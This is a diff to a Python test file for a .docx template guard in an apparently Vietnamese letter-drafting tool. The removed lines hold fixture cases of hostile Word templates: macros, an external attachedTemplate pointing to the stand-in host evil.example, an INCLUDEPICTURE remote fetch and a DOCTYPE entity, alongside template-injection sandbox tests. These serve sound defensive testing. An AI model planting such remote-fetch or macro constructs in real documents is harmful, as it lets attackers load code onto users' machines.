@@ -24,6 +24,7 @@ from bcd35.domain.letters import LetterNumber
 from bcd35.domain.office import DocumentStyle, NumberSeries, Office, Signer
 from bcd35.domain.rounds import Field, Ground, Round, Task
 from bcd35.domain.units import UnitKind
+from bcd35.formats.docx_guard import check_template
 from bcd35.formats.letters import TEMPLATE_NAMES, LetterContent, render_checklist, render_letter
 from bcd35.formats.package import Properties
 from bcd35.formats.qr import qr_png
@@ -512,9 +513,8 @@ UNSAFE = "access to attribute '__class__' of 'str' object is unsafe."
     [
         (a_template(PAYLOAD), f", đoạn “{PAYLOAD}”"),
         (a_template("a", header=PAYLOAD), f", đoạn “{PAYLOAD}”"),
-        (a_template("a", title=PAYLOAD), ""),
     ],
-    ids=["body", "header", "properties"],
+    ids=["body", "header"],
 )
 def test_sandbox_everywhere(data: bytes, place: str) -> None:
     message = f"Tệp mẫu “mau.docx”{place}: thẻ đòi chạy mã lệnh; thẻ chỉ được in giá trị (máy báo: {UNSAFE})."
@@ -552,88 +552,10 @@ def test_footnotes_are_filled_and_sandboxed_too() -> None:
     assert (finding.code, f"đoạn “{PAYLOAD}”" in finding.message) == ("template_unsafe_code", True)
 
 
-def added(name: str, old: bytes, new: bytes) -> bytes:
-    """A plain template with ``new`` put before ``old`` in the part ``name``, which is made when it is not there."""
-    content = unzipped(a_template("a"))
-    content[name] = content[name].replace(old, new + old) if name in content else new
-    assert new in content[name]
-    return zipped(content)
-
-
-RELATION = (
-    b'<Relationship Id="rId98" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/%s" '
-    b'Target="%s" TargetMode="External"/>'
-)
-NOT_DOCX = (
-    "template_not_docx",
-    "Tệp mẫu “mau.docx” không phải tệp .docx của Word (tệp .doc cũ, tệp đặt mật khẩu và tệp hỏng đều không dùng được).",
-    "Lưu lại bằng Word với kiểu “Word Document (.docx)”, không đặt mật khẩu.",
-)
-NO_MACROS = "Lưu lại bằng Word với kiểu “Word Document (.docx)”, bỏ đối tượng nhúng."
-NO_LINKS = "Bỏ nội dung liên kết: chèn hẳn hình hoặc chữ vào tệp mẫu."
-FILE_FAULTS = {
-    "not a zip": (b"\xd0\xcf\x11\xe0 old Word", *NOT_DOCX),
-    "empty": (b"", *NOT_DOCX),
-    "a zip, but not Word": (zipped({"a.txt": b"a"}), *NOT_DOCX),
-    "cut off": (a_template("a")[:2000], *NOT_DOCX),
-    "macros": (
-        added("word/vbaProject.bin", b"", b"x"),
-        "template_has_macros",
-        "Tệp mẫu “mau.docx” có macro hoặc đối tượng nhúng (word/vbaProject.bin); tệp mẫu chỉ được có chữ, bảng và hình.",
-        NO_MACROS,
-    ),
-    "docm": (
-        added(
-            "[Content_Types].xml",
-            b"</Types>",
-            b'<Default Extension="x" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>',
-        ),
-        "template_has_macros",
-        "Tệp mẫu “mau.docx” có macro hoặc đối tượng nhúng (kiểu tệp .docm); tệp mẫu chỉ được có chữ, bảng và hình.",
-        NO_MACROS,
-    ),
-    "template from elsewhere": (
-        added("word/_rels/document.xml.rels", b"</Relationships>", RELATION % (b"attachedTemplate", b"http://evil.example/a.dotm")),
-        "template_fetches",
-        (
-            "Tệp mẫu “mau.docx”: phần word/_rels/document.xml.rels lấy nội dung từ nơi khác (http://evil.example/a.dotm); "
-            "chỉ cho phép đường dẫn để bấm."
-        ),
-        NO_LINKS,
-    ),
-    "field that fetches": (
-        added(
-            "word/document.xml",
-            b"<w:sectPr",
-            b'<w:p><w:r><w:instrText>INCLUDE</w:instrText><w:instrText>PICTURE "//h/a.png"</w:instrText></w:r></w:p>',
-        ),
-        "template_fetches",
-        "Tệp mẫu “mau.docx”: phần word/document.xml lấy nội dung từ nơi khác (INCLUDEPICTURE); chỉ cho phép đường dẫn để bấm.",
-        NO_LINKS,
-    ),
-    "doctype": (
-        added("word/document.xml", b"<w:document", b'<!DOCTYPE w:document [<!ENTITY a "b">]>'),
-        "template_has_doctype",
-        "Tệp mẫu “mau.docx”: phần word/document.xml có khai báo DOCTYPE; tệp Word không bao giờ cần khai báo này.",
-        DISTRUST,
-    ),
-    "damaged part": (
-        added("word/document.xml", b"</w:body>", b"<w:p>"),
-        "template_damaged",
-        "Tệp mẫu “mau.docx”: phần word/document.xml bị hỏng.",
-        "Chép lại tệp mẫu gốc.",
-    ),
-}
-
-
-@pytest.mark.parametrize(("data", "code", "message", "fix"), FILE_FAULTS.values(), ids=list(FILE_FAULTS))
-def test_fault_of_a_file(data: bytes, code: str, message: str, fix: str) -> None:
-    assert the_fault(data) == Finding(code, "mau.docx", message, fix)
-
-
-def test_a_link_to_click_is_no_fault() -> None:
-    data = added("word/_rels/document.xml.rels", b"</Relationships>", RELATION % (b"hyperlink", b"https://thainguyen.gov.vn"))
-    assert Document(io.BytesIO(WordTemplate("mau.docx", data).render({}, PROPERTIES))).paragraphs[0].text == "a"
+@pytest.mark.parametrize("data", [b"", a_template("a")[:2000], a_template("a", title="{{ x }}")], ids=["empty", "cut off", "odd tag"])
+def test_a_template_never_goes_past_the_guard(data: bytes) -> None:
+    (found,) = check_template(data)
+    assert the_fault(data) == found._replace(where="mau.docx")
 
 
 # --- as printed ---------------------------------------------------------------------------------------------------------------------
